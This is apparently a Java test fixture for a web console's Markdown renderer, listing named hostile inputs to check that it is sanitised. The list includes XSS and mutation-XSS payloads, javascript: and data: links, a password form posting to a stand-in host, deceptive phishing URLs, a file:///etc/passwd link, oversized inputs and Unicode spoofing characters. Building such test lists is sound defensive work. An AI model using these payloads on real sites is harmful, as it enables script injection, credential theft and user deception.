package net.chingtech.ctos.webconsole.internal.markdown;

import java.util.LinkedHashMap;
import java.util.Map;

/** What somebody might write to do harm to whoever reads it, by name; a test of the page shows all of it, too. */
public final class HostileMarkdown {

    private HostileMarkdown() {}

    public static Map<String, String> all() {
        Map<String, String> all = new LinkedHashMap<>();
        markup(all);
        links(all);
        mutations(all);
        large(all);
        treacherous(all);
        return all;
    }

    private static void markup(Map<String, String> all) {
        all.put("script", "<script>document.title='owned'</script>");
        all.put("script between words", "a <scr<script>ipt>document.title='owned'</scr</script>ipt> b");
        all.put("picture with handler", "<img src=x onerror=\"document.title='owned'\">");
        all.put("picture of elsewhere", "![words of it](https://tracker.example/pixel.png \"title\")");
        all.put(
                "picture in HTML",
                "<img src=\"https://tracker.example/pixel.png\" srcset=\"https://tracker.example/2x 2x\">");
        all.put("svg", "<svg onload=\"document.title='owned'\"><script>document.title='owned'</script></svg>");
        all.put(
                "frame",
                "<iframe src=\"https://tracker.example\" srcdoc=\"<script>top.document.title='owned'</script>\"></iframe>");
        all.put(
                "object and embed",
                "<object data=\"https://tracker.example\"></object><embed src=\"//tracker.example\">");
        all.put(
                "form",
                "<form action=\"https://tracker.example\"><input name=password><button>Log in again</button></form>");
        all.put("style", "<style>@import url(https://tracker.example/x.css); body { display: none }</style>");
        all.put(
                "style attribute",
                "<p style=\"position:fixed;inset:0;background:url(//tracker.example)\">over all</p>");
        all.put(
                "base and meta",
                "<base href=\"https://tracker.example\"><meta http-equiv=refresh content=\"0;url=//tracker.example\">");
        all.put("id and class of ours", "<div id=main class=\"modal wide\" data-start=x>ours?</div>");
        all.put("element of ours", "<ctos-app></ctos-app><ctos-plan change=x></ctos-plan>");
        all.put("comment", "before <!-- <script>document.title='owned'</script> --> after <!-- never closed");
        all.put("unclosed", "<b><i><blockquote><table><td><a href=\"https://example.org\">open");
        all.put("closed too often", "</div></section></dialog></ctos-app></body></html> still here");
        all.put("attribute without end", "<a href=\"https://example.org title='<img src=x onerror=alert(1)>");
        all.put("link and font of elsewhere", "<link rel=stylesheet href=//tracker.example><font face=x>x</font>");
        all.put(
                "video and audio",
                "<video poster=//tracker.example src=//tracker.example autoplay></video><audio src=//tracker.example>");
    }

    private static void links(Map<String, String> all) {
        all.put("javascript", "[go](javascript:document.title='owned')");
        all.put(
                "javascript in disguise",
                "[go](java\tscript:alert(1)) [go](JaVaScRiPt:alert(1)) [go](&#106;avascript:alert(1))");
        all.put("data", "[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)");
        all.put(
                "other schemes",
                "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](//tracker.example) [e](ctos:x)");
        all.put("of our own", "[log out](/ctos/logout) [there](../../system/console/bundles)");
        all.put("says another host", "[https://bank.example](https://thief.example/login)");
        all.put("says another host in brackets", "[bank.example (bank.example)](https://thief.example)");
        all.put(
                "name before the host",
                "[bank](https://bank.example@thief.example/) [bank](https://bank.example%40thief.example/)");
        all.put("backslash", "[bank](https://thief.example\\@bank.example/)");
        all.put("letters of another script", "[bank](https://b\u0430nk.example/)");
        all.put("letter with more in it", "[write](mailto:a@example.org?bcc=thief@thief.example&body=secret)");
        all.put(
                "handler in a link",
                "<a href=\"https://example.org\" onclick=\"document.title='owned'\" target=_top>go</a>");
        all.put("definition", "[go]\n\n[go]: javascript:document.title='owned'");
        all.put("autolink", "<javascript:document.title='owned'> <https://thief.example/?<script>>");
    }

    private static void mutations(Map<String, String> all) {
        all.put("noscript", "<noscript><p title=\"</noscript><img src=x onerror=document.title='owned'>\">");
        all.put(
                "math and style",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">");
        all.put("svg and title", "<svg></p><style><a id=\"</style><img src=x onerror=document.title='owned'>\">");
        all.put("form in form", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>");
        all.put(
                "template",
                "<template><script>document.title='owned'</script></template><template shadowrootmode=open><script>alert(1)</script>");
        all.put("textarea", "<textarea></textarea><img src=x onerror=alert(1)></textarea>");
        all.put("select and option", "<select><option><style></option></select><img src=x onerror=alert(1)></style>");
        all.put("cdata", "<![CDATA[<img src=x onerror=alert(1)>]]> <?php <script> ?>");
        all.put("lit's own marks", "<?lit$123456789$><!--?lit$123456789$--> {{constructor}} ${document.title='owned'}");
        all.put("entities", "&lt;img src=x onerror=alert(1)&gt; &amp;lt;script&amp;gt; &#0; &#x110000; &#xd800;");
        all.put("code", "```html\n<script>document.title='owned'</script>\n```\n\n`<img src=x onerror=alert(1)>`");
        all.put("fence with attributes", "```\" onload=\"alert(1)\n<b>\n```");
    }

    private static void large(Map<String, String> all) {
        all.put("lists 10,000 deep", "- ".repeat(10_000) + "end");
        all.put("quotes 10,000 deep", ">".repeat(10_000) + " end");
        all.put("emphasis 10,000 deep", "*a **b ".repeat(10_000) + "**c*".repeat(5_000));
        all.put("brackets 10,000 deep", "[".repeat(10_000) + "a" + "](b)".repeat(10_000));
        all.put("elements 10,000 deep", "<blockquote><b>".repeat(5_000));
        all.put("one huge table", "|a".repeat(12_000) + "\n" + "|-".repeat(12_000) + "\n" + "|\n".repeat(500));
        all.put("a long table", "|a|b|\n|-|-|\n" + "|\n".repeat(60_000));
        all.put("wide table", "|" + "column |".repeat(29) + "\n|" + "-|".repeat(29) + "\n|" + "value |".repeat(29));
        all.put("one long word", "x".repeat(49_000));
        all.put("many headings", "# a\n".repeat(20_000));
        all.put("many backticks", backticks());
        all.put("many comments", "<!--".repeat(12_000));
        all.put("many links", "[a](<b".repeat(8_000));
        all.put("many pictures", "![".repeat(25_000));
        all.put("many entities", "&amp".repeat(12_000));
        all.put("many definitions", "[a]: <b> 'c'\n".repeat(4_000));
        all.put("many stars", "*_".repeat(25_000));
        all.put("many ampersands and angles", "<a ".repeat(12_000) + "&<".repeat(1_000));
        all.put("five million characters", "word ".repeat(1_000_000));
    }

    private static String backticks() {
        StringBuilder ticks = new StringBuilder();
        for (int i = 1; ticks.length() < 49_000; i++) {
            ticks.append("`".repeat(i)).append(' ');
        }
        return ticks.toString();
    }

    private static void treacherous(Map<String, String> all) {
        all.put("turned around", "evil \u202egnp.exe and \u2066hidden\u2069");
        all.put("turned by entities", "evil &#x202e;gnp.exe &#8238;");
        all.put("without width", "pay\u200bpal \ufeff\u2060 \u200d");
        all.put("tags that nobody sees", "flag \udb40\udc41\udb40\udc42\udb40\udc7f");
        all.put("half a character", "\ud800 and \udfff");
        all.put("nothing and controls", "a\u0000b\u0007c\u001b[31md");
        all.put("marks on marks", "Z" + "\u0335\u0321\u0489".repeat(2_000));
        all.put("emoji", "\ud83d\ude00".repeat(5_000));
        all.put("line ends of all kinds", "a\rb\u2028c\u2029d\u0085e");
    }
}
